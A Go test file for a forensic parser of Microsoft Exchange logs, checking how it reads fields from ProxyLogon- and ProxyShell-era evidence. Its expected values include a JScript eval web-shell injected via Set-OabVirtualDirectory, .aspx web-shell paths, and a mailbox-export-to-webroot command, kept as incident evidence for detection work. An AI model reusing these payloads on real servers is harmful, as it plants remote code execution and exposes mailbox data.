package exlog

import (
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/exhunt/exhunt/internal/evidence"
	"github.com/google/go-cmp/cmp"
)

type got struct {
	recs []*evidence.Record
	st   Stats
}

func parseFile(t *testing.T, name, source string, opt Options) got {
	t.Helper()
	b, err := os.ReadFile(name)
	if err != nil {
		t.Fatal(err)
	}
	return parseBytes(t, b, source, opt)
}

func parseBytes(t *testing.T, b []byte, source string, opt Options) got {
	t.Helper()
	var g got
	st, err := Parse(t.Context(), bytes.NewReader(b), source, opt, func(r *evidence.Record) error {
		g.recs = append(g.recs, r)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	g.st = st
	return g
}

func field(t *testing.T, r *evidence.Record, name string) string {
	t.Helper()
	v, ok := r.Fields.Get(name)
	if !ok {
		t.Errorf("line %d: field %q missing", r.Line, name)
	}
	return v
}

func TestHttpProxy(t *testing.T) {
	src := "Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Ecp/HttpProxy_2021030302-1.LOG"
	g := parseFile(t, "testdata/HttpProxy/Ecp/HttpProxy_2021030302-1.LOG", src, Options{})
	if len(g.recs) != 2 {
		t.Fatalf("got %d records, want 2 (stats %+v)", len(g.recs), g.st)
	}
	r := g.recs[0]
	wantLog := evidence.LogSource{Product: "exchange", Service: "httpproxy", Category: "ecp"}
	if r.Log != wantLog || r.Line != 6 || r.Source != src {
		t.Errorf("record 1: log %+v line %d source %q", r.Log, r.Line, r.Source)
	}
	if !r.Time.Equal(time.Date(2021, 3, 3, 2, 16, 53, 12e6, time.UTC)) {
		t.Errorf("time = %v", r.Time)
	}
	checks := []struct{ name, want string }{
		{"AnchorMailbox", "ServerInfo~a]@exch01.contoso.local:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#"},
		{"RequestId", "6b1d5c1e-0c1a-4d32-9a51-0a2f0d1e3b41"},
		{"ClientIPAddress", "203.0.113.66"}, // the log spells it ClientIpAddress
		{"clientipaddress", "203.0.113.66"},
		{"HttpStatus", "200"},
		{"AuthenticatedUser", ""},
		{"BackEndCookie", "Server~exch01.contoso.local~1942062522"},
	}
	for _, c := range checks {
		if v := field(t, r, c.name); v != c.want {
			t.Errorf("%s = %q, want %q", c.name, v, c.want)
		}
	}
	r = g.recs[1]
	if v := field(t, r, "UserAgent"); v != `Mozilla/5.0 (Windows NT 10.0; Win64; x64), "quoted"` {
		t.Errorf("quoted UserAgent = %q", v)
	}
	if v := field(t, r, "GenericErrors"); v != "line one\r\nline two" && v != "line one\nline two" {
		t.Errorf("multi-line GenericErrors = %q", v)
	}
	if r.Line != 7 {
		t.Errorf("second record starts on line %d, want 7", r.Line)
	}
	if g.st.Lines != 8 || g.st.Records != 2 || g.st.Malformed != 0 || g.st.LogType != HttpProxy ||
		g.st.Version != "15.01.2176.002" || g.st.Software != "Microsoft Exchange Server" || g.st.Host != "EXCH01" || len(g.st.Fields) != 74 {
		t.Errorf("stats = %+v", g.st)
	}
}

func TestLogTypes(t *testing.T) {
	tests := []struct {
		file, source string
		typ          LogType
		log          evidence.LogSource
		records      int
		fields       map[string]string // of the first record
	}{
		{"ECPServer20210303-1.LOG", "x/ECPServer20210303-1.LOG", ECP, evidence.LogSource{Product: "exchange", Service: "ecp"}, 2,
			map[string]string{"BLD": "15.1.2176.2", "URL": "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=abc",
				"CMD":   `Set-OabVirtualDirectory.ExternalUrl="http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["p"],"unsafe");}</script>".Identity="0b4c1e4a-aa3c-4d6a-8c8e-2d4f1e2a9b10"`,
				"REQID": "", "ServerName": "EXCH01"}},
		{"OABGenerator20210303-1.LOG", "y/z.LOG", OABGenerator, evidence.LogSource{Product: "exchange", Service: "oabgenerator"}, 2,
			map[string]string{"TempFilePath": `C:\inetpub\wwwroot\aspnet_client\system_web\Xk3pQz8a.aspx`, "Level": "Error"}},
		{"OABGeneratorLog/OABGenerator20210303-2.LOG", "V15/Logging/OABGeneratorLog/OABGenerator20210303-2.LOG", OABGenerator, evidence.LogSource{Product: "exchange", Service: "oabgenerator"}, 2,
			map[string]string{"TempFilePath": `C:\inetpub\wwwroot\aspnet_client\Xk3pQz8a.aspx`,
				"Message": `2021-03-03T02:17:40.100Z,Download failed and temporary file 'C:\inetpub\wwwroot\aspnet_client\Xk3pQz8a.aspx' needs to be removed`}},
		{"CmdletInfra.LOG", "a.LOG", Cmdlet, evidence.LogSource{Product: "exchange", Service: "cmdlet"}, 1,
			map[string]string{"Cmdlet": "New-MailboxExportRequest", "RequestId": "b1e2c3d4-0000-4000-8000-000000000001",
				"Parameters": `-Mailbox "ceo@contoso.com" -FilePath "\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\a.aspx"`}},
		{"plain-header.csv", "export.csv", HttpProxy, evidence.LogSource{Product: "exchange", Service: "httpproxy", Category: "autodiscover"}, 1,
			map[string]string{"HttpStatus": "500", "UrlStem": "/autodiscover/autodiscover.json"}},
		// Without #Log-type: or telling columns, the folder decides.
		{"plain-header.csv", "Logging/HttpProxy/Owa/x.csv", HttpProxy, evidence.LogSource{Product: "exchange", Service: "httpproxy", Category: "autodiscover"}, 1, nil},
	}
	for _, tc := range tests {
		t.Run(tc.file, func(t *testing.T) {
			g := parseFile(t, "testdata/"+tc.file, tc.source, Options{})
			if g.st.LogType != tc.typ || len(g.recs) != tc.records || g.st.Malformed != 0 {
				t.Fatalf("type %q records %d malformed %d; want %q %d 0", g.st.LogType, len(g.recs), g.st.Malformed, tc.typ, tc.records)
			}
			if g.recs[0].Log != tc.log {
				t.Errorf("log = %+v, want %+v", g.recs[0].Log, tc.log)
			}
			for k, want := range tc.fields {
				if v := field(t, g.recs[0], k); v != want {
					t.Errorf("%s = %q, want %q", k, v, want)
				}
			}
		})
	}
}

func TestFolderFallback(t *testing.T) {
	in := "#Fields: DateTime,RequestId,Protocol,Foo\n2021-03-03T00:00:00Z,r1,,x\n"
	tests := []struct {
		source string
		log    evidence.LogSource
	}{
		{"V15/Logging/HttpProxy/Mapi/HttpProxy_1.LOG", evidence.LogSource{Product: "exchange", Service: "httpproxy", Category: "mapi"}},
		{`V15\Logging\ECP\Server\ECPServer.LOG`, evidence.LogSource{Product: "exchange", Service: "ecp"}},
		{"V15/Logging/CmdletInfra/Powershell-Proxy/Cmdlet/x.LOG", evidence.LogSource{Product: "exchange", Service: "cmdlet"}},
		{"elsewhere/x.LOG", evidence.LogSource{Product: "exchange", Service: "other"}},
	}
	for _, tc := range tests {
		g := parseBytes(t, []byte(in), tc.source, Options{})
		if len(g.recs) != 1 || g.recs[0].Log != tc.log {
			t.Errorf("%s: %d records, log %+v; want %+v", tc.source, len(g.recs), g.recs[0].Log, tc.log)
		}
	}
	// The #Log-type: header beats the folder.
	g := parseBytes(t, []byte("#Log-type: ECP Server Log\n"+in), "V15/Logging/HttpProxy/Mapi/x.LOG", Options{})
	if g.st.LogType != ECP {
		t.Errorf("declared type lost to folder: %q", g.st.LogType)
	}
}

func TestFilterAndCoverage(t *testing.T) {
	b, _ := os.ReadFile("testdata/HttpProxy/Ecp/HttpProxy_2021030302-1.LOG")
	g := parseBytes(t, b, "x", Options{Filter: func(l []byte) bool { return bytes.Contains(l, []byte("ServerInfo~")) }})
	if len(g.recs) != 1 || g.st.Records != 1 {
		t.Fatalf("records = %d", len(g.recs))
	}
	// The filtered-out multi-line record still counts toward coverage.
	if !g.st.Last.Equal(time.Date(2021, 3, 3, 2, 17, 1, 5e8, time.UTC)) || len(g.st.Days) != 1 || g.st.Lines != 8 {
		t.Errorf("stats = %+v", g.st)
	}
}

func TestMalformed(t *testing.T) {
	hdr := "#Fields: DateTime,RequestId,UrlStem\n"
	tests := []struct {
		name               string
		in                 string
		records, malformed int64
	}{
		{"no header", "2021-03-03T00:00:00Z,r,/owa/\n", 0, 1},
		{"bad time", hdr + "yesterday,r,/owa/\n", 0, 1},
		{"unterminated quote at EOF", hdr + "2021-03-03T00:00:00Z,r,\"/owa/\n", 0, 1},
		{"quoted comma", hdr + "2021-03-03T00:00:00Z,r,\"/a,b\"\n", 1, 0},
		{"offset time", hdr + "2021-03-03T01:00:00+01:00,r,/owa/\n", 1, 0},
		{"long record", hdr + "2021-03-03T00:00:00Z,r,\"" + strings.Repeat("x\n", 600) + "\"\n2021-03-03T00:00:00Z,r,/ok\n", 1, 1},
		{"binary", "\x00\x01\x02\n\xff,\xfe\n", 0, 2},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			g := parseBytes(t, []byte(tc.in), "x", Options{MaxLine: 1000})
			if g.st.Records != tc.records || g.st.Malformed != tc.malformed {
				t.Errorf("records, malformed = %d, %d; want %d, %d", g.st.Records, g.st.Malformed, tc.records, tc.malformed)
			}
		})
	}
}

// Rows with fewer or more values than the header names are kept, not
// dropped: missing trailing values are empty, extra ones stay, as written,
// in the last column; Ragged counts them.
func TestRaggedRows(t *testing.T) {
	hdr := "#Fields: DateTime,RequestId,UrlStem\n"
	g := parseBytes(t, []byte(hdr+"2021-03-03T00:00:00Z,r\n2021-03-03T00:00:01Z,r,/owa/,x,\"y\"\n2021-03-03T00:00:02Z,r,/ecp/\n"), "x", Options{})
	if g.st.Records != 3 || g.st.Malformed != 0 || g.st.Ragged != 2 {
		t.Fatalf("stats %+v", g.st)
	}
	if v, ok := g.recs[0].Fields.Get("UrlStem"); !ok || v != "" {
		t.Errorf("missing value: %q %v", v, ok)
	}
	if v := field(t, g.recs[1], "UrlStem"); v != `/owa/,x,"y"` {
		t.Errorf("extra values: %q", v)
	}
	// A one-column header keeps the whole row.
	g = parseBytes(t, []byte("#Fields: DateTime\n2021-03-03T00:00:00Z,a,b\n"), "x", Options{})
	if g.st.Malformed != 1 {
		t.Errorf("a time column holding the rest of the row is not a time: %+v", g.st)
	}
}

// The ECP server log of a real March 2021 incident (helsecert, see
// ../../../shared/corpus/real-exchange-evidence/SOURCES.md): its header,
// written for the excerpt, names "Command,Response" instead of EventData,
// and most rows carry fewer or more values. Every row is read, and the
// S:CMD item with the injected script is there, as the rules need it.
func TestRealECPExcerpt(t *testing.T) {
	name := "../../../shared/corpus/real-exchange-evidence/helsecert/assembled/EXCH/Program Files/Microsoft/Exchange Server/V15/Logging/ECP/Server/ECPServer20210303-1.LOG"
	b, err := os.ReadFile(name)
	if err != nil {
		t.Skipf("corpus not available: %v", err)
	}
	if typ, ok := Sniff(b); typ != ECP || !ok {
		t.Errorf("Sniff = %q %v", typ, ok)
	}
	g := parseBytes(t, b, "ECPServer20210303-1.LOG", Options{})
	if g.st.Records != 17 || g.st.Malformed != 0 {
		t.Fatalf("records %d malformed %d, want 17 and 0", g.st.Records, g.st.Malformed)
	}
	scripts := 0
	for _, r := range g.recs {
		cmd, _ := r.Fields.Get("CMD")
		ed, _ := r.Fields.Get("EventData")
		if strings.HasPrefix(cmd, "Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=") && strings.Contains(ed, `eval(Request[""klk123456""],""unsafe"")`) {
			scripts++
		}
	}
	if scripts != 2 {
		t.Errorf("%d rows with the injected script, want 2", scripts)
	}
}

// Test-ProxyLogon's export of a real incident's HttpProxy Ecp rows (a
// PowerShell Export-Csv file: a #TYPE line, then a quoted header) is read
// as an HttpProxy log, and each row's protocol comes from its UrlStem: the
// file sits in no HttpProxy folder.
func TestRealTestProxyLogonExport(t *testing.T) {
	b, err := os.ReadFile("../../../shared/corpus/real-exchange-evidence/helsecert/raw/HttpProxy_Ecp_TestProxyLogon_export.csv")
	if err != nil {
		t.Skipf("corpus not available: %v", err)
	}
	if typ, ok := Sniff(b); typ != HttpProxy || !ok {
		t.Errorf("Sniff = %q %v", typ, ok)
	}
	g := parseBytes(t, b, "export.csv", Options{})
	if g.st.Records == 0 || g.st.Malformed != 0 || g.st.Protocol != "ecp" {
		t.Fatalf("stats %+v", g.st)
	}
	for _, r := range g.recs {
		if r.Log.Category != "ecp" {
			t.Errorf("line %d: category %q, want ecp (from /ecp/y.js)", r.Line, r.Log.Category)
		}
	}
}

// The lab ProxyShell run's back-end PowerShell HTTP log (real lines,
// DebugPrivilege/InsightEngineering): a plain header line before the
// #Software block, then the #Log-type "Rps Http Logs".
func TestRealRpsHttp(t *testing.T) {
	b, err := os.ReadFile("../../../shared/corpus/real-exchange-evidence/proxyshell-lab/Program Files/Microsoft/Exchange Server/V15/Logging/CmdletInfra/Powershell-Proxy/Http/Rps_Http_2023110922-1.LOG")
	if err != nil {
		t.Skipf("corpus not available: %v", err)
	}
	if typ, ok := Sniff(b); typ != RpsHttp || !ok {
		t.Errorf("Sniff = %q %v", typ, ok)
	}
	g := parseBytes(t, b, "a.LOG", Options{})
	if g.st.LogType != RpsHttp || g.st.Records == 0 || g.st.Host != "EXCHANGE2012" {
		t.Fatalf("stats %+v", g.st)
	}
	if q := field(t, g.recs[0], "UrlQuery"); !strings.Contains(q, "Email=autodiscover/autodiscover.json%3F@") {
		t.Errorf("UrlQuery %q", q)
	}
}

func TestStemProtocol(t *testing.T) {
	for stem, want := range map[string]string{
		"/ecp/y.js": "ecp", "/OWA/auth/x.aspx": "owa", "/Microsoft-Server-ActiveSync/default.eas": "eas",
		"/rpc/rpcproxy.dll": "rpchttp", "/erp/conn.aspx": "", "": "", "ecp": "ecp",
	} {
		if got := stemProtocol(stem); got != want {
			t.Errorf("stemProtocol(%q) = %q, want %q", stem, got, want)
		}
	}
}

func TestSniff(t *testing.T) {
	read := func(name string) string {
		b, err := os.ReadFile("testdata/" + name)
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	tests := []struct {
		head string
		typ  LogType
		ok   bool
	}{
		{read("HttpProxy/Ecp/HttpProxy_2021030302-1.LOG")[:300], HttpProxy, true},
		{read("ECPServer20210303-1.LOG"), ECP, true},
		{read("OABGenerator20210303-1.LOG"), OABGenerator, true},
		{read("CmdletInfra.LOG"), Cmdlet, true},
		{read("plain-header.csv")[:1200], HttpProxy, true},
		{"#Software: Microsoft Exchange Server\n#Log-type: Message Tracking Log\n", Other, true},
		{"#Software: Microsoft Internet Information Services 10.0\n#Fields: date time\n", "", false},
		{"DateTime,Foo\n", "", false},
		{"", "", false},
	}
	for _, tc := range tests {
		typ, ok := Sniff([]byte(tc.head))
		if typ != tc.typ || ok != tc.ok {
			t.Errorf("Sniff(%.40q) = %q, %v; want %q, %v", tc.head, typ, ok, tc.typ, tc.ok)
		}
	}
}

func TestStop(t *testing.T) {
	stop := errors.New("stop")
	b, _ := os.ReadFile("testdata/CmdletInfra.LOG")
	if _, err := Parse(t.Context(), bytes.NewReader(b), "x", Options{}, func(*evidence.Record) error { return stop }); !errors.Is(err, stop) {
		t.Errorf("fn error: %v", err)
	}
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if _, err := Parse(ctx, bytes.NewReader(bytes.Repeat([]byte("#c\n"), 2*ctxEvery)), "x", Options{}, nil); !errors.Is(err, context.Canceled) {
		t.Errorf("cancelled: %v", err)
	}
}

func TestFieldsRange(t *testing.T) {
	g := parseFile(t, "testdata/ECPServer20210303-1.LOG", "x", Options{})
	var names []string
	g.recs[1].Fields.Range(func(n, _ string) bool { names = append(names, n); return true })
	want := []string{"TimeStamp", "ServerName", "EventId", "EventData", "TIME", "USR", "URL", "BLD", "CMD"}
	if d := cmp.Diff(want, names); d != "" {
		t.Errorf("Range names (-want +got):\n%s", d)
	}
}

func TestGzip(t *testing.T) {
	plain, err := os.ReadFile("testdata/ECPServer20210303-1.LOG")
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	zw.Write(plain)
	zw.Close()
	want := parseBytes(t, plain, "x", Options{})
	got := parseBytes(t, buf.Bytes(), "x", Options{})
	if d := cmp.Diff(want.st, got.st); d != "" || len(got.recs) != 2 {
		t.Errorf("gzip stats differ (%d records):\n%s", len(got.recs), d)
	}
	if typ, ok := Sniff(buf.Bytes()); !ok || typ != ECP {
		t.Errorf("Sniff(gzip) = %q, %v", typ, ok)
	}
	_, err = Parse(t.Context(), bytes.NewReader(buf.Bytes()), "x", Options{MaxDecompressed: int64(len(plain) - 1)}, func(*evidence.Record) error { return nil })
	if !errors.Is(err, ErrTooLarge) {
		t.Errorf("limit below size: err = %v, want ErrTooLarge", err)
	}
}

// TestKey: with KeyField and Key, a record is built only when its decoded
// column value is wanted (the quoted value with a comma and a doubled
// quote included); the filter then plays no part, coverage still counts
// every record, a log without that column goes to the filter, and Key
// sees each record once.
func TestKey(t *testing.T) {
	in := "#Fields: DateTime,RequestId,UrlStem\n" +
		"2021-03-03T00:00:01Z,aaa,/owa/\n" +
		"2021-03-03T00:00:02Z,\"b,\"\"b\",/ecp/y.js\n" +
		"2021-03-04T00:00:03Z,ccc,/ews/\n" +
		"2021-03-04T00:00:04Z,aaa,\"/x\n/y\"\n"
	want := map[string]bool{"aaa": true, `b,"b`: true}
	calls := 0
	g := parseBytes(t, []byte(in), "x", Options{
		KeyField: "requestid", // any case, as Fields.Get finds it
		Key:      func(v []byte) bool { calls++; return want[string(v)] },
		Filter:   func([]byte) bool { t.Error("Filter called for a log with the key column"); return true },
	})
	var ids []string
	for _, r := range g.recs {
		ids = append(ids, field(t, r, "RequestId")+" "+field(t, r, "UrlStem"))
	}
	if diff := cmp.Diff([]string{"aaa /owa/", `b,"b /ecp/y.js`, "aaa /x\n/y"}, ids); diff != "" {
		t.Errorf("records (-want +got):\n%s", diff)
	}
	if calls != 4 || g.st.Records != 3 || len(g.st.Days) != 2 || g.st.Malformed != 0 {
		t.Errorf("%d Key calls, stats %+v", calls, g.st)
	}
	// Without the column: the filter decides.
	g = parseBytes(t, []byte("#Fields: DateTime,UrlStem\n2021-03-03T00:00:01Z,/owa/\n"), "x", Options{
		KeyField: "RequestId", Key: func([]byte) bool { t.Error("Key called without its column"); return true },
		Filter: func([]byte) bool { return true },
	})
	if len(g.recs) != 1 {
		t.Errorf("%d records without the key column, want 1 (from the filter)", len(g.recs))
	}
}
